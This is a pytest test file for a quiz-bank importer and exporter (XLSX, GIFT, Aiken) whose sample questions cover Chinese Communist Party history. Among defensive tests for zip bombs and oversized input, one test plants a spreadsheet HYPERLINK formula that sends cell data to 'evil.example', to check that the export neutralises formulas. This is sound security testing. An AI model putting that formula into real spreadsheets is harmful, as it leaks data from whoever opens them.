"""Importing XLSX, GIFT and Aiken: per-row reports, nothing half-written, no duplicates; exports."""

import io
import json
import re
import tracemalloc
from pathlib import Path

import pytest
import sqlalchemy as sa
from openpyxl import Workbook, load_workbook

from app.accounts.models import ImportJob
from app.extensions import db
from app.quiz import bank
from app.quiz.exports import template_xlsx
from app.quiz.importers import COLUMNS, ImportFileError, import_questions
from app.quiz.models import Question, QuestionKind
from tests.core.test_spreadsheets import MEMORY_BOUND, forged_dimension_xlsx, ratio_bomb_xlsx
from tests.helpers import config_set, count

GIFT = """// 每种支持的题型各一道
$CATEGORY: $course$/top/党史

::单选::中国共产党成立于哪一年？ {
  =1921年 # 正确
  ~1927年
  ~1949年
  ####1921 年 7 月，中共一大召开。
}

::多选:: 下列属于“四个自信”的有 {
  ~%50%道路自信
  ~%50%理论自信
  ~%-100%盲目自信
}

遵义会议是党的历史上一个生死攸关的转折点。{T}

党的最高理想和最终目标是实现 {=共产主义 =共产主义社会} 。

问答题不支持：谈谈你的体会。{}
"""

AIKEN = """中国共产党的根本宗旨是什么？
A. 为人民服务
B. 全心全意为人民服务
C. 发展经济
ANSWER: B

党的三大优良作风不包括以下哪一项？
A) 理论联系实际
B) 密切联系群众
C) 批评与自我批评
D) 独断专行
ANSWER: D
"""


def xlsx(rows, header=COLUMNS) -> bytes:
    wb = Workbook()
    wb.active.append(header)
    for row in rows:
        wb.active.append(row)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def row(kind, stem, options, answer, explanation="", difficulty=3, tags="", category="", source=""):
    return [
        kind,
        stem,
        *(options + [""] * (8 - len(options))),
        answer,
        explanation,
        difficulty,
        tags,
        category,
        source,
    ]


def test_the_xlsx_template_imports_as_it_is_downloaded(login_as, client):
    login_as("trainer")
    response = client.get("/quiz/bank/template.xlsx")
    assert response.status_code == 200
    assert response.mimetype.endswith("spreadsheetml.sheet")
    report = import_questions(response.data, "题库导入模板.xlsx", actor=None)
    assert report.as_json() == {"imported": 4, "duplicates": 0, "errors": []}
    kinds = db.session.execute(sa.select(Question.kind, Question.answer).order_by(Question.id)).all()
    assert kinds == [
        (QuestionKind.SINGLE, "A"),
        (QuestionKind.MULTIPLE, ["A", "B", "C", "D"]),
        (QuestionKind.TRUE_FALSE, True),
        (QuestionKind.FILL, ["共产主义", "共产主义社会"]),
    ]


def test_a_gift_file_with_each_supported_type():
    report = import_questions(GIFT.encode(), "bank.gift", actor=None)
    assert report.format == "gift"
    # The essay question is reported on the line where it starts; nothing is written.
    assert report.errors == [{"row": 21, "message": "不支持的 GIFT 题型：问答题（essay）"}]
    assert report.imported == 0
    assert count(Question) == 0

    fixed = GIFT.replace("问答题不支持：谈谈你的体会。{}\n", "")
    report = import_questions(fixed.encode(), "bank.txt", actor=None)  # .txt: recognised by content
    assert report.as_json() == {"imported": 4, "duplicates": 0, "errors": []}
    questions = db.session.scalars(sa.select(Question).order_by(Question.id)).all()
    single, multiple, truth, fill = questions
    assert (single.kind, single.options, single.answer) == (
        QuestionKind.SINGLE,
        ["1921年", "1927年", "1949年"],
        "A",
    )
    assert single.explanation == "1921 年 7 月，中共一大召开。"
    assert single.category == "党史"
    assert single.source == "单选"
    assert (multiple.kind, multiple.answer) == (QuestionKind.MULTIPLE, ["A", "B"])
    assert (truth.kind, truth.answer) == (QuestionKind.TRUE_FALSE, True)
    assert (fill.kind, fill.answer, fill.stem) == (
        QuestionKind.FILL,
        ["共产主义", "共产主义社会"],
        "党的最高理想和最终目标是实现 ____ 。",
    )


def test_an_aiken_file_and_its_reimport():
    report = import_questions(AIKEN.encode(), "bank.txt", actor=None, category="党章")
    assert report.format == "aiken"
    assert report.as_json() == {"imported": 2, "duplicates": 0, "errors": []}
    first, second = db.session.scalars(sa.select(Question).order_by(Question.id)).all()
    assert (first.answer, second.answer, second.options[3]) == ("B", "D", "独断专行")
    assert first.category == "党章"
    again = import_questions(AIKEN.encode(), "bank.aiken", actor=None)
    assert again.as_json() == {"imported": 0, "duplicates": 2, "errors": []}
    assert count(Question) == 2


def test_broken_rows_are_reported_by_row_and_nothing_is_written():
    data = xlsx(
        [
            row("单选题", "好的一行", ["甲", "乙"], "A"),
            row("问答题", "未知题型", [], "A"),
            row("单选题", "答案不在选项中", ["甲", "乙"], "C"),
            row("多选题", "", ["甲", "乙"], "AB"),
            row("判断题", "判断答案无效", [], "也许"),
            row("单选题", "难度无效", ["甲", "乙"], "A", difficulty=9),
        ]
    )
    report = import_questions(data, "bank.xlsx", actor=None)
    assert report.errors == [
        {"row": 3, "message": "未知题型「问答题」，应为单选题、多选题、判断题或填空题"},
        {"row": 4, "message": "答案「C」不在选项 A、B 中"},
        {"row": 5, "message": "题干不能为空"},
        {"row": 6, "message": "判断题答案「也许」无效，应为 正确/错误（对/错）"},
        {"row": 7, "message": "难度「9」无效，应为 1–5"},
    ]
    assert report.imported == 0
    assert count(Question) == 0


def test_duplicates_of_the_bank_and_within_the_file_are_skipped():
    import_questions(xlsx([row("单选题", "已有的题", ["甲", "乙"], "A")]), "a.xlsx", actor=None)
    data = xlsx(
        [
            row("单选题", "已有的题", ["乙", "甲"], "B"),  # same question, options reordered
            row("单选题", "新题", ["甲", "乙"], "A"),
            row("单选题", "新题 ", ["甲", "乙 "], "A"),  # same again, spacing aside
        ]
    )
    report = import_questions(data, "b.xlsx", actor=None)
    assert report.as_json() == {"imported": 1, "duplicates": 2, "errors": []}
    assert [d["row"] for d in report.duplicate_rows] == [2, 4]
    assert count(Question) == 2


def test_the_export_uses_the_template_and_reimports_as_duplicates(login_as, client):
    trainer = login_as("trainer")  # a trainer exports the questions they own (finding 9)
    import_questions(template_xlsx(), "t.xlsx", actor=trainer)
    import_questions(AIKEN.encode(), "a.txt", actor=trainer)
    response = client.get("/quiz/bank/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == COLUMNS
    assert len(rows) == 7
    assert rows[3][0] == "判断题"
    assert rows[3][10] == "正确"
    report = import_questions(response.data, "export.xlsx", actor=None)
    assert report.as_json() == {"imported": 0, "duplicates": 6, "errors": []}


@pytest.mark.parametrize(
    ("content", "name", "message"),
    [
        (b"", "empty.gift", "文件是空的"),
        (b"just some words\nwithout any question\n", "notes.txt", "无法识别的文件格式"),
        (b"not a workbook", "bank.xlsx", "内容不是 Excel 工作簿"),
        (xlsx([["a", "b"]], header=["题型", "题干"]), "bank.xlsx", "缺少列：答案"),
    ],
)
def test_unreadable_files(content, name, message):
    with pytest.raises(ImportFileError, match=message):
        import_questions(content, name, actor=None)


def test_the_cli_prints_the_report_as_json_on_its_last_line(runner, tmp_path):
    path = tmp_path / "bank.gift"
    path.write_text(GIFT.replace("问答题不支持：谈谈你的体会。{}\n", ""), encoding="utf-8")
    result = runner.invoke(args=["quiz", "import", str(path), "--category", "入党培训"])
    assert result.exit_code == 0, result.output
    assert json.loads(result.output.strip().splitlines()[-1]) == {
        "imported": 4,
        "duplicates": 0,
        "errors": [],
    }
    # The file's own $CATEGORY wins over --category; --category fills in where the file has none.
    assert set(db.session.scalars(sa.select(Question.category))) == {"党史"}
    aiken = tmp_path / "bank.txt"
    aiken.write_text(AIKEN, encoding="utf-8")
    result = runner.invoke(args=["quiz", "import", str(aiken), "--category", "入党培训"])
    assert json.loads(result.output.strip().splitlines()[-1])["imported"] == 2
    assert count(Question, Question.category == "入党培训") == 2

    again = runner.invoke(args=["quiz", "import", str(path)])
    assert json.loads(again.output.strip().splitlines()[-1]) == {"imported": 0, "duplicates": 4, "errors": []}


def test_the_cli_reports_broken_rows_and_writes_nothing(runner, tmp_path):
    path = tmp_path / "bank.xlsx"
    path.write_bytes(
        xlsx([row("单选题", "好题", ["甲", "乙"], "A"), row("单选题", "坏题", ["甲", "乙"], "Z")])
    )
    result = runner.invoke(args=["quiz", "import", str(path)])
    assert result.exit_code == 0
    assert json.loads(result.output.strip().splitlines()[-1]) == {
        "imported": 0,
        "duplicates": 0,
        "errors": [{"row": 3, "message": "答案「Z」不在选项 A、B 中"}],
    }
    assert count(Question) == 0


@pytest.mark.parametrize("name", ["missing.xlsx", "garbage.xlsx"])
def test_the_cli_exits_non_zero_when_the_file_cannot_be_read(runner, tmp_path, name):
    path = tmp_path / name
    if name == "garbage.xlsx":
        path.write_bytes(b"\x00\x01 not a workbook")
    result = runner.invoke(args=["quiz", "import", str(path)])
    assert result.exit_code == 1
    last = json.loads(result.output.strip().splitlines()[-1])
    assert last["imported"] == 0
    assert last["errors"][0]["row"] == 0
    assert last["errors"][0]["message"]


def test_the_import_page_shows_the_report(login_as, client):
    login_as("trainer")
    assert client.get("/quiz/bank/import").status_code == 200
    bad = xlsx([row("单选题", "坏题", ["甲", "乙"], "Z")])
    # The import runs on a worker (eagerly in tests); its job page shows the report (finding 5).
    response = client.post(
        "/quiz/bank/import",
        data={"file": (io.BytesIO(bad), "bank.xlsx")},
        content_type="multipart/form-data",
        follow_redirects=True,
    )
    assert response.status_code == 200
    assert "答案「Z」不在选项 A、B 中" in response.get_data(as_text=True)
    response = client.post(
        "/quiz/bank/import",
        data={"file": (io.BytesIO(AIKEN.encode()), "a.txt"), "category": "党章"},
        content_type="multipart/form-data",
        follow_redirects=True,
    )
    assert response.status_code == 200
    assert "导入 2 道题目" in response.get_data(as_text=True)
    assert count(Question, Question.category == "党章") == 2


def test_members_cannot_import(login_as, client):
    login_as("member")
    assert client.get("/quiz/bank/import").status_code == 403
    assert client.get("/quiz/bank/template.xlsx").status_code == 403


# --- finding 5: import bombs and imports on a worker --------------------------------------------


def peak(work):
    """(what ``work()`` returned or raised, peak memory it took)."""
    tracemalloc.start()
    try:
        try:
            outcome = work()
        except ImportFileError as exc:
            outcome = exc
        return outcome, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_finding5_the_web_import_runs_on_a_worker_with_a_progress_page(login_as, client, create_user, login):
    trainer = login_as("trainer")
    response = client.post(
        "/quiz/bank/import",
        data={"file": (io.BytesIO(AIKEN.encode()), "a.txt"), "category": "党章"},
        content_type="multipart/form-data",
    )
    assert response.status_code == 302
    job_url = response.headers["Location"]
    assert re.fullmatch(r"/quiz/bank/import/\d+", job_url)
    assert client.get(job_url + "?format=json").get_json() == {
        "success": True,
        "data": {
            "status": "done",
            "percent": 100,
            "processed": 2,
            "total": 2,
            "finished": True,
            "message": None,
        },
    }
    job = db.session.get(ImportJob, int(job_url.rsplit("/", 1)[1]))
    assert (job.kind, job.created_count, job.skipped_count) == ("questions", 2, 0)
    assert not Path(job.stored_path).exists()
    owners = set(db.session.scalars(sa.select(Question.owner_id)))
    assert owners == {trainer.id}
    assert "a.txt" in client.get("/quiz/bank/import").get_data(as_text=True)
    # Someone else's job: another trainer is refused; the members' job page does not show it.
    client.post("/logout")
    login(create_user("trainer"))
    assert client.get(job_url).status_code == 403
    client.post("/logout")
    login_as("admin")
    assert client.get(job_url).status_code == 200
    assert client.get(f"/users/import/{job.id}").status_code == 404


def test_finding5_an_unreadable_upload_is_a_rejected_job_with_the_reason(login_as, client):
    login_as("trainer")
    response = client.post(
        "/quiz/bank/import",
        data={"file": (io.BytesIO(ratio_bomb_xlsx()), "bank.xlsx")},
        content_type="multipart/form-data",
        follow_redirects=True,
    )
    page = response.get_data(as_text=True)
    assert 'data-testid="import-rejected"' in page
    assert "压缩比异常" in page
    assert count(Question) == 0


def test_finding5_an_unknown_file_type_is_refused_before_a_job_exists(login_as, client):
    login_as("trainer")
    jobs = count(ImportJob)
    response = client.post(
        "/quiz/bank/import",
        data={"file": (io.BytesIO(b"%PDF-1.4"), "bank.pdf")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 422
    assert "只支持 XLSX、GIFT" in response.get_data(as_text=True)
    assert count(ImportJob) == jobs


def test_finding5_a_forged_xlsx_dimension_reads_only_real_rows_in_bounded_memory():
    data = forged_dimension_xlsx([COLUMNS, row("单选题", "真题", ["甲", "乙"], "A")])
    report, memory = peak(lambda: import_questions(data, "forged.xlsx", actor=None))
    assert memory < MEMORY_BOUND
    assert report.as_json() == {"imported": 1, "duplicates": 0, "errors": []}


def test_finding5_a_zip_bomb_is_refused_before_it_is_inflated():
    error, memory = peak(lambda: import_questions(ratio_bomb_xlsx(), "bomb.xlsx", actor=None))
    assert memory < MEMORY_BOUND
    assert isinstance(error, ImportFileError)
    assert "压缩比异常" in str(error)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (AIKEN.encode() + b"\n" * (4 * 1024 * 1024), None),  # newlines after real questions: read, bounded
        (b"::q:: " + b"x" * (4 * 1024 * 1024) + b" {T}", "超过 100000 个字符"),  # one endless line
        (b"\n".join([b"::q:: x"] * 300_000) + b" {T}", "超过 100000 个字符"),  # one endless block
    ],
)
def test_finding5_text_banks_are_streamed_in_bounded_memory(content, message):
    outcome, memory = peak(lambda: import_questions(content, "bank.gift" if message else "a.txt", actor=None))
    assert memory < MEMORY_BOUND
    if message is None:
        assert outcome.imported == 2
    else:
        assert isinstance(outcome, ImportFileError)
        assert message in str(outcome)


def test_finding5_the_question_limit_is_a_setting_checked_while_reading(app):
    with config_set(app, QUIZ_IMPORT_MAX_QUESTIONS=1):
        with pytest.raises(ImportFileError, match="一次最多导入 1 道题"):
            import_questions(AIKEN.encode(), "a.txt", actor=None)
        with pytest.raises(ImportFileError, match="一次最多导入 1 行"):
            import_questions(template_xlsx(), "t.xlsx", actor=None)
    assert count(Question) == 0


# --- finding 4: the question bank export runs no formula ----------------------------------------


def test_finding4_the_bank_export_neutralises_formulas_and_reimports_as_the_same_questions(login_as, client):
    trainer = login_as("trainer")
    evil = '=HYPERLINK("http://evil.example/?x="&A3,"点击")'
    fields = bank.clean_question("single", evil, ["-1", "@2"], "A", "+3", 4)
    bank.create_question(fields, trainer)  # typed in the form: stored as written
    response = client.get("/quiz/bank/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.data)).worksheets[0]
    cells = [cell for r in sheet.iter_rows() for cell in r]
    assert not any(cell.data_type == "f" for cell in cells)
    values = [cell.value for cell in cells]
    assert {"'" + evil, "'-1", "'@2", "'+3"} <= set(values)
    assert 4 in values  # numbers stay numbers
    report = import_questions(response.data, "export.xlsx", actor=trainer)
    assert report.as_json() == {"imported": 0, "duplicates": 1, "errors": []}


def test_the_cli_gives_imported_questions_an_owner(runner, tmp_path, create_user):
    trainer = create_user("trainer", "member")
    path = tmp_path / "bank.txt"
    path.write_text(AIKEN, encoding="utf-8")
    result = runner.invoke(args=["quiz", "import", str(path), "--owner", trainer.employee_no])
    assert result.exit_code == 0, result.output
    assert set(db.session.scalars(sa.select(Question.owner_id))) == {trainer.id}
    member = create_user()
    refused = runner.invoke(args=["quiz", "import", str(path), "--owner", member.employee_no])
    assert refused.exit_code == 2
    assert "找不到工号" in refused.output
